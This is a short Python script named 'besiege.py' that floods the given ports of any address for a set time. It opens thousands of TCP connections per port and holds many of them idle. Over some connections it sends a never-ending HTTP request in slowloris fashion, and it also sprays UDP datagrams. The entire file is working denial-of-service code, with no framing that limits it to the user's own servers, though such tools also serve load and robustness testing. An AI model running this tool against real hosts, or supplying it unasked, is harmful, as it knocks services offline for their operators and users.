"""Strangers at ports of a host, for a time: besiege.py SECONDS ADDRESS PORT...

It asks for 10 000 connections of each port. Of some it never sends the last segment of the handshake, over
those that it gets it sends a request without an end. It also sends datagrams.
"""

from __future__ import annotations

import resource
import socket
import sys
import time
from collections import deque
from contextlib import suppress

ASKED = 10_000  # connections of each port
HELD = 2_000  # of them left half open, over all ports
RECENT = 100
ENDLESS = b"GET / HTTP/1.1\r\n" + b"X: x\r\n" * 1000


def besiege(seconds: float, address: str, ports: list[int]) -> None:
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    recent: deque[socket.socket] = deque()  # which may be connected by and by
    held: list[socket.socket] = []
    begin = time.monotonic()
    for asked in range(ASKED):
        time.sleep(max(0.0, begin + asked * seconds / ASKED - time.monotonic()))
        for port in ports:
            stranger = socket.socket()
            stranger.setblocking(False)
            stranger.connect_ex((address, port))
            recent.append(stranger)
            with suppress(OSError):  # nobody listens
                datagrams.sendto(b"x" * 100, (address, port))
        while len(recent) > RECENT:
            stranger = recent.popleft()
            with suppress(OSError):  # it has got no connection
                stranger.send(ENDLESS)
            if asked % 10 == 0 and len(held) < min(HELD, most - 2 * RECENT):
                held.append(stranger)
            else:
                stranger.close()


if __name__ == "__main__":
    besiege(float(sys.argv[1]), sys.argv[2], [int(port) for port in sys.argv[3:]])
